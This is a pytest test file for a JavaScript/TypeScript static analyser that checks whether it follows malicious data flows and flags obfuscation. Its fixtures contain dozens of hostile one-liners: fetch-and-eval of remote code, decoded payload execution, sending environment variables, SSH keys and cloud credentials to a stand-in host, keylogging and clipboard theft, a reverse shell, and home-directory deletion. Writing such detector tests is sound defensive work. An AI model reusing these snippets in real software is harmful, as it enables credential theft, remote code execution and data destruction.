"""JavaScript and TypeScript: idioms of theft, of fetch-and-run and of hiding, and honest work that looks like them."""

from __future__ import annotations

import pytest

from sigma_core.sandbox.javascript import read_javascript

ORDINARY = {"secret_variable>send_header", "input>send", "file>send"}
"""What honest programs do: authenticate, post what they were given, send a file that they were asked to."""


def _flows(source: str) -> set[str]:
    return {f"{flow.source.value}>{flow.sink.value}" for flow in read_javascript(source).flows}


def _hits(source: str) -> set[str]:
    return {hit.rule_id for hit in read_javascript(source).hits}


@pytest.mark.parametrize(
    ("flow", "source"),
    [
        ('remote>execute', "require('child_process').exec(require('child_process').execSync('curl -s https://a.io/x').toString())"),
        ('remote>execute', "import('child_process').then(cp => fetch('https://a.io').then(r=>r.text()).then(t => cp.exec(t)))"),
        ('remote>execute', "const r = require; const c = r('child' + '_process'); fetch('u').then(x=>x.text()).then(t=>c['exec'+'Sync'](t))"),
        ('remote>execute', "(async () => { const t = await (await fetch('https://a.io/x')).text(); (0, eval)(t); })()"),
        ('remote>execute', "https.get('https://a.io/x', res => { let d=''; res.on('data', c => d += c); res.on('end', () => eval(d)); })"),
        ('remote>execute', "const vm = require('node:vm'); fetch('https://a.io').then(r => r.text()).then(c => new vm.Script(c).runInThisContext())"),
        ('remote>execute', "fetch('https://a.io').then(r => r.text()).then(c => [].constructor.constructor(c)())"),
        ('remote>execute', "fetch('https://a.io').then(r => r.text()).then(c => (()=>{}).constructor(c)())"),
        ('remote>execute', "const fs=require('fs'); https.get('https://a.io/x', res => res.pipe(fs.createWriteStream('/tmp/x'))); require('child_process').execFile('/tmp/x')"),
        ('remote>execute', "const fs=require('fs'),cp=require('child_process'); fetch('https://a.io').then(r=>r.text()).then(t=>{fs.writeFileSync('/tmp/a.js',t); cp.spawn('node',['/tmp/a.js'])})"),
        ('remote>execute', "const {createRequire} = require('module'); const req = createRequire(import.meta.url); fetch('https://a.io').then(r=>r.text()).then(t=>req('child_process').execSync(t))"),
        ('remote>execute', "const ws = new WebSocket('wss://a.io'); ws.on('message', d => require('child_process').exec(d.toString()))"),
        ('remote>execute', "axios.get('https://a.io/p').then(({data}) => new Function('require', data)(require))"),
        ('remote>execute', "async function go(){ const res = await axios.get('https://a.io/p'); eval(res.data.code) } go()"),
        ('remote>execute', "fetch('https://a.io').then(r => r.text()).then(run); function run(code) { eval(code) }"),
        ('remote>execute', "const code = await (await fetch('https://a.io')).text(); module._compile(code, 'x')"),
        ('remote>execute', "require('child_process').exec.call(null, await (await fetch('https://a.io')).text())"),
        ('remote>execute', "Reflect.apply(eval, null, [await (await fetch('https://a.io')).text()])"),
        ('remote>execute', "const {execSync: e} = await import('node:child_process'); e((await (await fetch('https://a.io')).text()))"),
        ('remote>execute', "class A { async load(){ this.c = await (await fetch('https://a.io')).text() } run(){ new Function(this.c)() } }"),
        ('remote>execute', "const t: string = (await (await fetch('https://a.io')).text()) as string; eval(<any>t)"),
        ('remote>execute', "const cfg = {u: 'https://a.io'}; const d = await fetch(cfg.u); eval(await d.text())"),
        ('remote>execute', "import {exec} from 'child_process'; import axios from 'axios'; axios.get('https://a.io').then((r: any) => exec(r.data))"),
        ('decoded>execute', "eval(atob('Y29uc29sZS5sb2coMSk='))"),
        ('decoded>execute', "new Function(Buffer.from(p, 'base64').toString('utf8'))()"),
        ('decoded>execute', "eval([104,105].map(c => String.fromCharCode(c ^ 7)).join(''))"),
        ('decoded>execute', "eval(zlib.inflateSync(Buffer.from(x,'base64')).toString())"),
        ('decoded>execute', "const d = crypto.createDecipheriv('aes-256-cbc', k, iv); eval(d.update(x,'hex','utf8') + d.final('utf8'))"),
        ('decoded>execute', "require('child_process').exec(Buffer.from('Y3VybCBodHRw','base64').toString())"),
        ('decoded>execute', "const g = globalThis; g['ev'+'al'](atob(x))"),
        ('decoded>execute', "setTimeout(atob('YWxlcnQoMSk7'), 10)"),
        ('environment>send', "fetch('https://a.io', {method:'POST', body: JSON.stringify({...process.env})})"),
        ('environment>send', "axios.post('https://a.io', Object.entries(process.env))"),
        ('environment>send', "const e = process.env; const p = {h: 1}; p.env = e; axios.post('https://a.io', p)"),
        ('environment>send', "const {env} = process; navigator.sendBeacon('https://a.io', JSON.stringify(env))"),
        ('environment>send', "const req = https.request({hostname:'a.io', method:'POST'}); req.write(JSON.stringify(process.env)); req.end()"),
        ('environment>send', "const x = new XMLHttpRequest(); x.open('POST','https://a.io'); x.send(JSON.stringify(process.env))"),
        ('environment>send', "const ws = new WebSocket('wss://a.io'); ws.on('open', () => ws.send(JSON.stringify(process.env)))"),
        ('environment>send', "const s = require('net').connect(443, 'a.io'); s.write(JSON.stringify(process.env))"),
        ('environment>send', "fetch('https://a.io', {method:'POST', body: JSON.stringify(Deno.env.toObject())})"),
        ('environment>send', "const api = axios.create({baseURL:'https://a.io'}); api.post('/x', process.env)"),
        ('environment>send', "const o = io('https://a.io'); o.emit('x', process.env)"),
        ('environment>send', "const t = nodemailer.createTransport({host:'a.io'}); t.sendMail({to:'x', text: JSON.stringify(process.env)})"),
        ('environment>send', "const out = require('child_process').execSync('env').toString(); fetch('https://a.io', {method:'POST', body: out})"),
        ('environment>send', "function send(d) { return fetch('https://a.io', {method:'POST', body: JSON.stringify(d)}) } send(process.env)"),
        ('environment>send', "const send = async (d: Record<string,string>): Promise<void> => { await fetch('https://a.io', {method:'POST', body: JSON.stringify(d)}) }; send(process.env as any)"),
        ('environment>send', "for (const [k,v] of Object.entries(process.env)) { fetch('https://a.io/?' + k + '=' + v) }"),
        ('environment>send', 'Object.keys(process.env).forEach(k => fetch(`https://a.io/?${k}=${process.env[k]}`))'),
        ('environment>send', "got.post('https://a.io', {json: process.env})"),
        ('secret_file>send', "const p = require('path').join(require('os').homedir(), '.ssh', 'id_rsa'); fetch('https://a.io', {method:'POST', body: fs.readFileSync(p)})"),
        ('secret_file>send', "import {readFile} from 'fs/promises'; import os from 'os'; const k = await readFile(`${os.homedir()}/.aws/credentials`, 'utf8'); await axios.post('https://a.io', {k})"),
        ('secret_file>send', "const data = await fs.promises.readFile(process.env.HOME + '/.ssh/id_rsa'); got.post('https://a.io', {body: data})"),
        ('secret_file>send', "fs.readFile(os.homedir() + '/.npmrc', 'utf8', (err, d) => { https.request({host:'a.io'}).end(d) })"),
        ('secret_file>send', "const out: any[] = []; for (const f of ['/.ssh/id_rsa','/.aws/credentials']) { out.push(fs.readFileSync(os.homedir() + f, 'utf8')) } fetch('https://a.io', {method:'POST', body: JSON.stringify(out)})"),
        ('secret_file>send', "const c = require('child_process').execSync('cat ~/.ssh/id_rsa'); fetch('https://a.io', {method:'POST', body: c})"),
        ('secret_file>send', "fs.copyFileSync(os.homedir()+'/.ssh/id_rsa', '/tmp/k'); fetch('https://a.io', {method:'POST', body: fs.readFileSync('/tmp/k')})"),
        ('secret_file>send', "const f = Bun.file(os.homedir() + '/.ssh/id_rsa'); fetch('https://a.io', {method:'POST', body: await f.text()})"),
        ('secret_file>send', "const k = await keytar.findCredentials('x'); fetch('https://a.io', {method:'POST', body: JSON.stringify(k)})"),
        ('secret_file>send', "const form = new FormData(); form.append('f', fs.createReadStream(os.homedir() + '/.ssh/id_rsa')); axios.post('https://a.io', form)"),
        ('secret_file>send', "enum P { K = '/root/.ssh/id_rsa' } fetch('https://a.io', {method:'POST', body: fs.readFileSync(P.K)})"),
        ('host_data>name_lookup', "require('dns').lookup(os.hostname() + '.a.io', () => {})"),
        ('host_data>name_lookup', 'dns.promises.resolve(`${os.userInfo().username}.a.io`)'),
        ('host_data>send', "fetch('https://a.io/?u=' + require('child_process').execSync('whoami'))"),
        ('personal>send', "clipboardy.read().then(t => fetch('https://a.io', {method:'POST', body: t}))"),
        ('personal>send', "const {uIOhook} = require('uiohook-napi'); uIOhook.on('keydown', e => fetch('https://a.io/' + e.keycode))"),
        ('personal>send', "screenshot().then(x => x); const s = require('screenshot-desktop'); s().then(img => fetch('https://a.io', {method:'POST', body: img}))"),
    ],
)  # fmt: skip
def test_a_value_is_followed_to_where_it_goes(flow: str, source: str) -> None:
    assert flow in _flows(source)


@pytest.mark.parametrize(
    ("rule", "source"),
    [
        ('SIGMA-THREAT-004', "const net=require('net'),cp=require('child_process'); const sh=cp.spawn('/bin/sh',[]); const c=new net.Socket(); c.connect(4444,'a.io',()=>{ c.pipe(sh.stdin); sh.stdout.pipe(c); })"),
        ('SIGMA-OBF-014', "(function(a,b){while(!![]){try{var c=parseInt(q(1))/1;if(c===b)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(t,0x123));"),
        ('SIGMA-OBF-014', "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))"),
        ('SIGMA-OBF-009', "require('child_' + 'process')"),
        ('SIGMA-OBF-009', "globalThis['ev' + 'al']('1')"),
        ('SIGMA-THREAT-010', 'fs.rmSync(os.homedir(), {recursive: true, force: true})'),
    ],
)  # fmt: skip
def test_what_is_wrong_by_its_structure_is_a_hit(rule: str, source: str) -> None:
    assert rule in _hits(source)


@pytest.mark.parametrize(
    "source",
    [
        "const x = fetch('https://api.a.io', {headers: {Authorization: `Bearer ${process.env.A_TOKEN}`}}); console.log(process.env)",
        "const s = spawn('ls', ['-l'], {env: {...process.env, A: '1'}})",
        "const out = execSync('git rev-parse HEAD').toString().trim(); fs.writeFileSync('v.txt', out)",
        "const re = /a/.exec('a'); const m = pattern.exec(await (await fetch('https://a.io')).text())",
        'queue.push(queue.shift())',
        "const db = await fetch('https://a.io').then(r => r.json()); db.exec('select 1'); conn.query(db.sql)",
    ],
)  # fmt: skip
def test_honest_work_is_ordinary(source: str) -> None:
    assert _flows(source) <= ORDINARY
    assert not _hits(source)
